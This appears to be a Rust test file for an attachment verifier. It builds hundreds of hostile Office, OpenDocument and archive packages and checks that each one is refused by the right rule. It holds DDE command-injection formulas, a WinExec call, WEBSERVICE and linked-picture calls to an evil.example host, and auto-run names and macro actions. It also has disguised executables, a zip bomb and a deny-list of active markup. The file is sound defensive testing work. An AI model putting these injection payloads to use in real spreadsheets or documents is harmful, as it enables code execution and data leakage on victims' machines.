    let mut cases = Vec::new();
    let formulas = [
        ("dde", "cmd|'/c calc'!A0"),
        ("dde with a sign", "+cmd|'/c calc'!A0"),
        ("another book", "[1]Sheet1!A1"),
        ("a book on a share", "'\\\\evil\\[x.xlsx]s'!A1"),
        ("a book on the web", "'http://evil.example/[x.xlsx]s'!A1"),
        ("call", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)"),
        ("register", "REGISTER.ID(\"x\",\"y\")"),
        ("exec", "EXEC(\"calc\")"),
        ("web service", "_xlfn.WEBSERVICE(\"http://evil.example/\")"),
        ("web service decoded", "_xlfn.WEB_x0053_ERVICE(A1)"),
        ("filter xml", "_xlfn.FILTERXML(A1,\"//x\")"),
        ("real time", "RTD(\"x\",,\"y\")"),
        ("picture", "_xlfn.IMAGE(\"http://evil.example/\")"),
        ("cube", "CUBEVALUE(\"x\",\"y\")"),
        ("python", "_xlfn._xlws.PY(0,1)"),
        ("old macros", "GET.WORKBOOK(1)"),
        ("evaluate", "EVALUATE(A1)"),
        ("link to a file", "HYPERLINK(\"file:///c:/x\",\"y\")"),
        ("link that is computed", "HYPERLINK(A1&amp;B1)"),
        ("link to a share", "HYPERLINK(\"\\\\evil\\x\")"),
        ("sql", "SQL.REQUEST(\"x\")"),
        ("add-in", "_xll.Evil(1)"),
        ("open string", "\"x"),
        ("far reference as text", "INDIRECT(\"'\\\\evil\\[x]s'!A1\")"),
    ];
    for (name, formula) in formulas {
        let quoted = formula.replace('"', "&quot;");
        cases.push(hostile(format!("cell: {name}"), "formula.", &xlsx().bend(SHEET, "SUM(B1:B9)", &quoted)));
        cases.push(hostile(
            format!("name: {name}"),
            "formula.",
            &xlsx().bend("xl/workbook.xml", "表!$A$1", &quoted),
        ));
        cases.push(hostile(format!("format: {name}"), "formula.", &xlsx().bend(SHEET, "A1&gt;1", &quoted)));
        cases.push(hostile(
            format!("validation: {name}"),
            "formula.",
            &xlsx().bend(SHEET, "\"a,b\"", &quoted),
        ));
    }
    let book = |name: &str, rule: &'static str, from: &str, to: &str| {
        hostile(name, rule, &xlsx().bend("xl/workbook.xml", from, to))
    };
    let sheet = |name: &str, rule: &'static str, from: &str, to: &str| {
        hostile(name, rule, &xlsx().bend(SHEET, from, to))
    };
    let slide = |name: &str, rule: &'static str, from: &str, to: &str| {
        hostile(name, rule, &pptx().bend(SLIDE, from, to))
    };
    let action = "ppaction://hlinkshowjump?jump=nextslide";
    cases.extend([
        book("name that runs", "office.name_runs", "name=\"合計\"", "name=\"Auto_Open\""),
        book("name that runs at the end", "office.name_runs", "name=\"合計\"", "name=\"_xlnm.auto_close\""),
        book("name that runs, decoded", "office.name_runs", "name=\"合計\"", "name=\"Auto_x005F_Open\""),
        book("name of a macro", "", "name=\"合計\"", "name=\"合計\" xlm=\"1\""),
        book("name of a function", "", "name=\"合計\"", "name=\"合計\" vbProcedure=\"1\""),
        book(
            "reference to a book",
            "markup.element",
            "<x:definedNames>",
            "<x:externalReferences/><x:definedNames>",
        ),
        book(
            "functions of macros",
            "markup.element",
            "<x:definedNames>",
            "<x:functionGroups/><x:definedNames>",
        ),
        book(
            "pages to publish",
            "markup.element",
            "<x:definedNames>",
            "<x:webPublishItems/><x:definedNames>",
        ),
        sheet("objects of a sheet", "markup.element", "<x:hyperlinks>", "<x:oleObjects/><x:hyperlinks>"),
        sheet("controls of a sheet", "markup.element", "<x:hyperlinks>", "<x:controls/><x:hyperlinks>"),
        sheet(
            "background without a part",
            "office.reference",
            "<x:hyperlinks>",
            "<x:picture r:id=\"rId1\"/><x:hyperlinks>",
        ),
        sheet(
            "printer of a sheet",
            "office.reference",
            "<x:hyperlinks>",
            "<x:pageSetup r:id=\"rId1\"/><x:hyperlinks>",
        ),
        sheet(
            "old drawing",
            "office.reference",
            "<x:hyperlinks>",
            "<x:legacyDrawing r:id=\"rId1\"/><x:hyperlinks>",
        ),
        sheet("place in another book", "office.link", "location=\"表!A1\"", "location=\"[x.xlsx]Sheet1!A1\""),
        sheet("place on a share", "office.link", "location=\"表!A1\"", "location=\"\\\\evil\\x\""),
        sheet("place with a scheme", "office.link", "location=\"表!A1\"", "location=\"javascript:x\""),
        slide("click that runs a macro", "office.action", action, "ppaction://macro?name=x"),
        slide("click that runs a program", "office.action", action, "ppaction://program"),
        slide("click that runs an object", "office.action", action, "ppaction://ole?verb=0"),
        slide("click that opens a file", "office.action", action, "ppaction://hlinkfile"),
        slide("click that opens a show", "office.action", action, "ppaction://hlinkpres?slideindex=1"),
        slide(
            "click with an address that is none",
            "office.link",
            "r:id=\"\"",
            "r:id=\"\" invalidUrl=\"file:///x\"",
        ),
        slide(
            "sound of a click",
            "markup.element",
            "<a:hlinkClick r:id=\"rId3\"/>",
            "<a:hlinkClick r:id=\"rId3\"><a:snd r:embed=\"rId2\"/></a:hlinkClick>",
        ),
        slide("object of a slide", "markup.element", "</p:spTree>", "<p:oleObj/></p:spTree>"),
        slide("controls of a slide", "markup.element", "</p:cSld>", "<p:controls/></p:cSld>"),
        slide("custom data", "markup.element", "</p:spTree>", "</p:spTree><p:custDataLst/>"),
        slide(
            "film of a slide",
            "markup.element",
            "</p:spTree>",
            "<a:videoFile r:link=\"rId3\"/></p:spTree>",
        ),
    ]);
    cases
}

/// OpenDocument.
#[expect(clippy::too_many_lines, reason = "one row a hostile file")]
fn open() -> Vec<Hostile> {
    let content = |name: &str, rule: &'static str, from: &str, to: &str| {
        hostile(name, rule, &odt().bend("content.xml", from, to))
    };
    let inside = |name: &str, rule: &'static str, element: &str| {
        content(name, rule, "<text:p>本文", &format!("{element}<text:p>本文"))
    };
    let book = |name: &str, formula: &str| {
        hostile(
            name,
            "formula.",
            &ods().bend("content.xml", "of:=SUM([.B1:.B9])", &formula.replace('"', "&quot;")),
        )
    };
    let with = |name: &str, rule: &'static str, file: &str, kind: &str, data: &str| {
        let pack = odt().bend("META-INF/manifest.xml", "</manifest:manifest>", &format!("<manifest:file-entry manifest:full-path=\"{file}\" manifest:media-type=\"{kind}\"/></manifest:manifest>"));
        hostile(name, rule, &pack.with(file, data))
    };
    let setting = |name: &str, item: &str, kind: &str| {
        let oasis = "urn:oasis:names:tc:opendocument:xmlns";
        let data = format!(
            "{XML}<office:document-settings xmlns:office=\"{oasis}:office:1.0\" xmlns:config=\"{oasis}:config:1.0\"><office:settings><config:config-item-set config:name=\"ooo:view-settings\"><config:config-item config:name=\"{item}\" config:type=\"{kind}\">x</config:config-item></config:config-item-set></office:settings></office:document-settings>"
        );
        with(name, "open.setting", "settings.xml", "text/xml", &data)
    };
    let link = "https://example.jp/";
    let mut cases = vec![
        with("basic", "open.", "Basic/script-lc.xml", "text/xml", "x"),
        with("scripts", "open.", "Scripts/python/x.py", "application/binary", "x"),
        with("configuration", "open.", "Configurations2/accelerator/current.xml", "text/xml", "x"),
        with("thumbnail of an open text", "open.", "Thumbnails/thumbnail.png", "image/png", "x"),
        with("object that is binary", "open.", "Object 1", "application/vnd.sun.star.oleobject", "x"),
        with("replacement of an object", "open.", "ObjectReplacements/Object1", "x/y", "x"),
        with("program in the package", "open.", "x.exe", "x/y", "MZ"),
        with("layout cache", "open.", "layout-cache", "application/binary", "x"),
        with("rdf", "open.", "manifest.rdf", "application/rdf+xml", "x"),
        with("signatures", "open.", "META-INF/documentsignatures.xml", "", "x"),
        with("font file", "open.", "Fonts/a.ttf", "application/x-font-ttf", "x"),
        with("drawing as a picture", "open.picture", "Pictures/a.svg", "image/svg+xml", "<svg/>"),
        with("picture that nothing shows", "open.left_over", "Pictures/image2.png", "image/png", &String::from_utf8_lossy(b"x")),
        with("object that nothing shows", "open.left_over", "Object 1/content.xml", "text/xml", "x"),
        with("folder of another name", "open.file", "Evil 1/content.xml", "text/xml", "x"),
        hostile("file that the manifest does not name", "open.manifest", &odt().with("meta.xml", format!("{XML}<a/>"))),
        hostile("manifest that names what is not there", "open.manifest", &odt().bend("META-INF/manifest.xml", "</manifest:manifest>", "<manifest:file-entry manifest:full-path=\"x.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>")),
        hostile("file twice in the manifest", "open.manifest", &odt().bend("META-INF/manifest.xml", "</manifest:manifest>", "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>")),
        hostile("encrypted in the manifest", "markup.element", &odt().bend("META-INF/manifest.xml", "</manifest:manifest>", "<manifest:encryption-data/></manifest:manifest>")),
        hostile("manifest of another type", "open.manifest", &odt().set("META-INF/manifest.xml", manifest("application/vnd.oasis.opendocument.spreadsheet", &[]))),
        hostile("type of another kind", "open.mimetype", &odt().set("mimetype", "application/vnd.oasis.opendocument.text-template")),
        hostile("no type", "open.mimetype", &odt().without("mimetype")),
        setting("printer of a text", "PrinterName", "string"),
        setting("set-up of a printer", "Setup", "base64Binary"),
        setting("text of a setting", "RedlineColour", "string"),
        setting("source of data", "CurrentDatabaseDataSource", "boolean"),
        hostile("no manifest", "open.manifest", &odt().without("META-INF/manifest.xml")),
        hostile("no content", "open.", &odt().without("content.xml")),
        hostile("styles that are content", "open.root", &odt().bend("styles.xml", "<office:document-styles", "<office:document-content").bend("styles.xml", "</office:document-styles", "</office:document-content")),
        content("text that is a book inside", "open.body", "<office:text>", "<office:spreadsheet/><office:text>"),
        inside("script", "xml.", "<script:event-listener/>"),
        inside("event", "markup.element", "<office:event-listeners/>"),
        inside("scripts of a text", "markup.element", "<office:scripts/>"),
        inside("macro field", "markup.element", "<text:execute-macro/>"),
        inside("script field", "markup.element", "<text:script/>"),
        inside("dde declaration", "markup.element", "<text:dde-connection-decls/>"),
        inside("dde source", "markup.element", "<office:dde-source/>"),
        inside("section from a file", "markup.element", "<text:section><text:section-source/></text:section>"),
        inside("database field", "markup.element", "<text:database-display/>"),
        inside("form", "markup.element", "<office:forms/>"),
        inside("applet", "markup.element", "<draw:applet/>"),
        inside("plug-in", "markup.element", "<draw:plugin/>"),
        inside("floating frame", "markup.element", "<draw:floating-frame/>"),
        inside("ole object", "markup.element", "<draw:object-ole/>"),
        inside("binary data", "markup.element", "<office:binary-data>AAAA</office:binary-data>"),
        inside("object of another file", "open.link", "<draw:frame><draw:object xlink:href=\"file:///c:/x.ods\"/></draw:frame>"),
        inside("object that is not there", "open.object", "<draw:frame><draw:object xlink:href=\"./Object 1\"/></draw:frame>"),
        inside("picture of the web", "open.link", "<draw:frame><draw:image xlink:href=\"http://evil.example/x.png\"/></draw:frame>"),
        inside("picture of a share", "open.link", "<draw:frame><draw:image xlink:href=\"//evil.example/x.png\"/></draw:frame>"),
        inside("picture upwards", "open.", "<draw:frame><draw:image xlink:href=\"Pictures/../../x.png\"/></draw:frame>"),
        inside("picture that is not there", "open.picture", "<draw:frame><draw:image xlink:href=\"Pictures/image7.png\"/></draw:frame>"),
        inside("link of a paragraph", "", "<text:p xlink:href=\"file:///x\"/>"),
        inside("target of a script", "markup.address", "<text:p text:style-name=\"javascript:x\"/>"),
        inside("formula of a text", "formula.", "<text:p><text:expression text:formula=\"ooow:DDE(1)\"/></text:p>"),
        book("dde in a cell", "of:=DDE(\"soffice\";\"file:///x\";\"a\")"),
        book("another file in a cell", "of:=['file:///c:/x.ods'#$Sheet1.A1]"),
        book("web in a cell", "of:=COM.MICROSOFT.WEBSERVICE([.A1])"),
        book("excel's dde in a cell", "msoxl:=cmd|'/c calc'!A0"),
        book("excel's book in a cell", "msoxl:=[1]Sheet1!A1"),
        book("link that is computed in a cell", "of:=HYPERLINK([.A1])"),
        book("add-in in a cell", "of:=COM.SUN.STAR.SHEET.ADDIN.EVIL.X(1)"),
        hostile("dde of a table", "markup.element", &ods().bend("content.xml", "<table:shapes>", "<office:dde-source/><table:shapes>")),
        hostile("dde links of a book", "markup.element", &ods().bend("content.xml", "<table:table ", "<table:dde-links/><table:table ")),
        hostile("table from a file", "markup.element", &ods().bend("content.xml", "<table:shapes>", "<table:table-source/><table:shapes>")),
        hostile("range from a file", "markup.element", &ods().bend("content.xml", "<table:shapes>", "<table:cell-range-source/><table:shapes>")),
        hostile("sound of a show", "xml.", &odp().bend("content.xml", "<draw:frame>", "<presentation:sound/><draw:frame>")),
        hostile("macro of a drawing", "markup.element", &odg().bend("content.xml", "<draw:frame>", "<office:event-listeners/><draw:frame>")),
        hostile("drawing that is a show", "open.", &Pack { media_type: odp().media_type, extension: "odp", ..odg() }),
    ];
    for (name, target) in LINKS.iter().filter(|(name, _)| *name != "a bookmark") {
        let pack = odt().bend("content.xml", link, target);
        cases.push(hostile(format!("open link to {name}"), "open.link", &pack));
    }
    cases
}

/// Archives that were unpacked.
fn archives() -> Vec<Hostile> {
    let with = |name: &str, file: &str, data: &[u8]| hostile(name, "archive.", &archive().with(file, data));
    let mut cases = vec![
        with("program in an archive", "a.exe", b"MZ"),
        with("shortcut in an archive", "a.lnk", b"L"),
        with("address in an archive", "a.url", b"[InternetShortcut]"),
        with("page in an archive", "a.html", b"<script/>"),
        with("script in an archive", "a.js", b"x"),
        with("old document in an archive", "a.doc", b"\xd0\xcf"),
        with("document with macros in an archive", "a.docm", &docx().octets()),
        with("disk in an archive", "a.iso", b"x"),
        with("file without an extension", "README", b"x\r\n"),
        with("archive in an archive", "a.zip", &archive().octets()),
        with("program called a text behind spaces", "a.txt   .exe", b"MZ"),
        with("file of a device", "con.txt", b"x\r\n"),
        with("folder of a device", "nul/a.txt", b"x\r\n"),
        with("folder with a dot", "a./b.txt", b"x\r\n"),
        with("hidden folder", ".ssh/b.txt", b"x\r\n"),
        with("folder settings", "desktop.ini", b"[.ShellClassInfo]"),
        with("automatic start", "autorun.inf", b"[autorun]"),
        with("program that is called a picture", "b.png", b"MZ"),
        with("page that is called a photo", "b.jpg", b"<html>"),
        with("program that is called a document", "b.docx", b"MZ"),
        with("document that is called a book", "b.xlsx", &docx().octets()),
        with("document that is called a text", "b.txt", &docx().octets()),
        with(
            "document with macros that is called none",
            "b.docx",
            &docx()
                .bend(
                    "[Content_Types].xml",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml",
                )
                .octets(),
        ),
        with(
            "linked picture inside of an archive",
            "b.docx",
            &joined(docx(), DOCUMENT, ("rId9", "image"), "!http://evil.example/", "", b"").octets(),
        ),
        with("formula in an archive", "b.csv", b"=cmd|'/c calc'!A0\r\n"),
        with("formula of another charset in an archive", "b.csv", b"a,\x81\x811\r\n"),
        with("formula in the octets of kanji in an archive", "b.csv", b"\x1b$B,=1+1,\x1b(B\r\n"),
        with("separator in an archive", "b.csv", b"sep=;\r\n"),
        with("data of no charset", "b.json", b"\"\xff\""),
        with("control in an archive", "b.txt", b"\x07\r\n"),
        with("right to left in an archive", "b.txt", "a\u{202e}b\r\n".as_bytes()),
        with("right to left in utf-16 in an archive", "b.txt", b"\xff\xfea\0\x2e\x20"),
        with("document type in an archive", "b.xml", b"<!DOCTYPE a><a/>"),
        with("page as xml in an archive", "b.xml", b"<html xmlns=\"http://www.w3.org/1999/xhtml\"/>"),
        with("broken json in an archive", "b.json", b"{"),
        with(
            "alarm in an archive",
            "b.ics",
            b"BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nEND:VALARM\r\nEND:VCALENDAR\r\n",
        ),
        with("document that is a script", "b.pdf", b"%PDF-1.7\n1 0 obj<</S/JavaScript>>"),
    ];
    cases.push(hostile(
        "document before the members",
        "binary.second_meaning",
        &Pack { members: vec![("%PDF-1.7.txt".to_owned(), b"x\r\n".to_vec())], ..archive() },
    ));
    cases.push(of_octets("bomb", "zip.unpacked_octets", &archive(), {
        let big = Entry { size: 400 << 20, ..stored("a.txt", b"x") };
        zip(&[Entry { packed: vec![0; 1000], version: 20, method: 8, ..big }])
    }));
    cases
}

fn all() -> Vec<Hostile> {
    [containers(), forms(), parts(), texts(), sheets(), open(), archives()].into_iter().flatten().collect()
}

#[test]
fn sound_packages_pass() {
    let mut ran = 0;
    for pack in [docx(), xlsx(), pptx(), odt(), ods(), odp(), odg(), archive()] {
        let name = format!("見積書.{}", pack.extension);
        let case = with_part("", attachment(&name, pack.media_type, None, &pack.octets()));
        assert_eq!(refusal(case.octets, &case.expected), None, "{name}");
        ran += 1;
    }
    assert_eq!(ran, 8);
}

#[test]
fn every_hostile_package_is_refused_by_its_rule() {
    let cases = all();
    let names: std::collections::BTreeSet<&str> = cases.iter().map(|case| case.name.as_str()).collect();
    assert_eq!(names.len(), cases.len(), "names are unique");
    let count = cases.len();
    let mut wrong = Vec::new();
    for hostile in cases {
        let name = format!("a.{}", hostile.extension);
        let case = with_part(&hostile.name, attachment(&name, hostile.media_type, None, &hostile.octets));
        match refusal(case.octets, &case.expected) {
            None => wrong.push(format!("{} passed", hostile.name)),
            Some(objections) => {
                if !objections.iter().any(|objection| objection.rule.starts_with(hostile.rule)) {
                    wrong.push(format!("{}: {objections:?}", hostile.name));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    println!("{count} hostile packages refused");
    assert!(count >= 400, "{count}");
}

#[test]
fn a_cut_or_flipped_package_never_panics_and_a_flip_in_markup_is_another_sound_text() {
    let limits = verifier::DecodeLimits::of(&policy::Limits::STANDARD);
    let (mut ran, mut passed) = (0u32, 0u32);
    for pack in [docx(), xlsx(), pptx(), odt(), ods()] {
        let octets = pack.octets();
        let part = |octets: Vec<u8>| verifier::BinaryPart {
            part: 1,
            media_type: mail::MediaType::known(pack.media_type),
            octets,
        };
        for place in 0..octets.len() {
            let mut flipped = octets.clone();
            flipped[place] ^= 1 << (place % 8);
            let objections = verifier::decode_all(&[part(flipped)], &limits);
            ran += 1;
            passed += u32::from(objections.is_empty());
            if place % 16 == 0 {
                assert!(!verifier::decode_all(&[part(octets[..place].to_vec())], &limits).is_empty());
            }
        }
    }
    println!("{ran} flips, {passed} passed");
    assert!(ran > 10_000);
    // Checksums hold every octet of the data, and the directory repeats the headers. What is free is the version of the
    // program that wrote it (one octet a member).
    assert!(passed < 8 * 100, "{passed}");
}

#[test]
fn readers_of_packages_take_time_that_grows_with_their_octets_alone() {
    let long = |unit: &str| unit.repeat((512 << 10) / unit.len());
    let document = |inside: String| docx().bend(DOCUMENT, "</w:body>", &format!("{inside}</w:body>"));
    let cell = |formula: String| xlsx().bend(SHEET, "SUM(B1:B9)", &formula);
    let cases = [
        ("elements", document(long("<w:p/>"))),
        ("references", document(format!("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", long("&amp;")))),
        ("ampersands", document(format!("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", long("&")))),
        ("attributes", document(format!("<w:p {}/>", long("a=\"\" ")))),
        ("open elements", document(long("<w:p>"))),
        ("brackets", document(long("]]"))),
        (
            "fields",
            document(format!(
                "<w:p>{}</w:p>",
                long(
                    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
                )
            )),
        ),
        (
            "pieces",
            document(format!(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{}</w:p>",
                long("<w:ins w:id=\"1\"><w:r><w:instrText>x</w:instrText></w:r></w:ins>")
            )),
        ),
        ("formula of words", cell(long("A1+"))),
        ("formula of quotes", cell(long("'"))),
        ("formula of brackets", cell(format!("T{}", long("[")))),
        ("formula of calls", cell(long("_xlfn."))),
        ("formula of codes", cell(long("_x0041"))),
        (
            "names",
            docx().bend(
                "word/_rels/document.xml.rels",
                "</rel:Relationships>",
                &format!(
                    "{}</rel:Relationships>",
                    long("<rel:Relationship Id=\"a\" Type=\"b\" Target=\"c\"/>")
                ),
            ),
        ),
        (
            "types",
            docx().bend(
                "[Content_Types].xml",
                "</ct:Types>",
                &format!("{}</ct:Types>", long("<ct:Override PartName=\"/a\" ContentType=\"b\"/>")),
            ),
        ),
    ];
    let mut ran = 0;
    for (name, pack) in cases {
        let limits = verifier::DecodeLimits::of(&policy::Limits::STANDARD);
        let media_type = mail::MediaType::known(pack.media_type);
        let part = verifier::BinaryPart { part: 1, media_type, octets: pack.octets() };
        let start = std::time::Instant::now();
        let refused = !verifier::decode_all(&[part], &limits).is_empty();
        println!(
            "{name}: {} ms, {}",
            start.elapsed().as_millis(),
            if refused { "refused" } else { "passed" }
        );
        assert!(start.elapsed() < std::time::Duration::from_secs(30), "{name}");
        ran += 1;
    }
    assert_eq!(ran, 15);
}

#[test]
fn every_limit_is_met_exactly_and_one_beyond_is_refused() {
    use verifier::DecodeLimits;
    let standard = DecodeLimits::of(&policy::Limits::STANDARD);
    let refused = |pack: &Pack, limits: DecodeLimits| {
        let media_type = mail::MediaType::known(pack.media_type);
        let part = verifier::BinaryPart { part: 1, media_type, octets: pack.octets() };
        verifier::decode_all(&[part], &limits).into_iter().map(|objection| objection.rule).next()
    };
    let (text, whole) = (docx(), archive());
    let members = text.members.len() as u64;
    let octets = text.members.iter().map(|(_, data)| data.len() as u64).sum();
    let nodes =
        (1..10_000).find(|&nodes| refused(&text, DecodeLimits { nodes, ..standard }).is_none()).unwrap();
    let inside = (members + ods().members.len() as u64 + whole.members.len() as u64, whole.clone());
    type Set = fn(DecodeLimits, u64) -> DecodeLimits;
    let cases: [(&Pack, u64, &str, Set); 6] = [
        (&text, members, "zip.members", |limits, members| DecodeLimits { members, ..limits }),
        (&text, octets, "zip.unpacked_octets", |limits, unpacked_octets| DecodeLimits {
            unpacked_octets,
            ..limits
        }),
        (&text, nodes, "xml.nodes", |limits, nodes| DecodeLimits { nodes, ..limits }),
        (&text, 8, "package.pixels", |limits, total_px| DecodeLimits { total_px, ..limits }),
        (&text, 8, "png.dimensions", |limits, image_px| DecodeLimits { image_px, ..limits }),
        (&inside.1, inside.0, "archive.member", |limits, members| DecodeLimits { members, ..limits }),
    ];
    let mut ran = 0;
    for (pack, most, rule, set) in cases {
        assert_eq!(refused(pack, set(standard, most)), None, "{rule}");
        assert_eq!(refused(pack, set(standard, most - 1)).as_deref(), Some(rule));
        ran += 1;
    }
    assert_eq!(ran, 6);
}

/// Markup that must be in nothing that passes: in a text it cannot stand, because `<` is written otherwise there.
const NEVER: &[&str] = &[
    "<!",
    "<w:altChunk",
    "<w:object",
    "<w:subDoc",
    "<w:fldData",
    "<x:oleObject",
    "<x:ddeLink",
    "<p:oleObj",
    "<a:snd",
    "<office:scripts",
    "<script:",
    "<text:execute-macro",
    "<draw:floating-frame",
    "<office:dde-source",
    "<office:event-listeners",
];
/// Pieces that are put into markup.
const PIECES: &[&str] = &[
    "<",
    ">",
    "/>",
    "\"",
    "&",
    "&amp;",
    "<w:p>",
    "</w:p>",
    "<w:altChunk/>",
    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>",
    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
    "<w:r><w:instrText>DDE</w:instrText></w:r>",
    "<w:r><w:instrText>PAGE </w:instrText></w:r>",
    " r:id=\"rId2\"",
    " xmlns:v=\"urn:schemas-microsoft-com:vml\"",
    "<mc:AlternateContent><mc:Choice Requires=\"w14\">",
    "<x:f>cmd|'x'!A1</x:f>",
    "[1]",
    "'",
    "_x0041_",
    "HYPERLINK(",
    "<!--",
    "<![CDATA[",
    "]]>",
    "<?a?>",
    "\u{202e}",
    "\u{1}",
    "file:///x",
    "<office:scripts/>",
    "<draw:object xlink:href=\"./Object 1\"/>",
    " TargetMode=\"External\"",
    "../../",
];

#[test]
fn markup_that_is_changed_anyhow_never_panics_and_never_passes_with_what_acts() {
    let limits = verifier::DecodeLimits::of(&policy::Limits::STANDARD);
    let packs = [docx(), xlsx(), pptx(), odt(), ods()];
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut random = move |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 11) as usize % below.max(1)
    };
    let (mut ran, mut passed) = (0u32, 0u32);
    for round in 0..10_000usize {
        let mut pack = packs[round % packs.len()].clone();
        let count = pack.members.len();
        for _ in 0..=random(3) {
            let (_, data) = &mut pack.members[random(count)];
            let (from, to) = (random(data.len() + 1), random(data.len() + 1));
            let (from, to) = (from.min(to), from.max(to).min(from.min(to) + 40));
            let piece = PIECES[random(PIECES.len())].as_bytes();
            let inside = data[from..to].to_vec();
            match random(4) {
                0 => drop(data.splice(from..to, piece.iter().copied())),
                1 => drop(data.splice(from..from, piece.iter().copied())),
                2 => drop(data.splice(from..from, inside)),
                _ => drop(data.splice(from..to, [])),
            }
        }
        let part = verifier::BinaryPart {
            part: 1,
            media_type: mail::MediaType::known(pack.media_type),
            octets: pack.octets(),
        };
        let objections = verifier::decode_all(&[part], &limits);
        assert!(objections.len() <= 100);
        ran += 1;
        if objections.is_empty() {
            passed += 1;
            for (name, data) in &pack.members {
                let text = String::from_utf8_lossy(data);
                let found = NEVER.iter().find(|never| !name.contains("media") && text.contains(**never));
                assert_eq!(found, None, "{name}: {text}");
            }
        }
    }
    println!("{ran} changed packages, {passed} passed");
    assert_eq!(ran, 10_000);
}
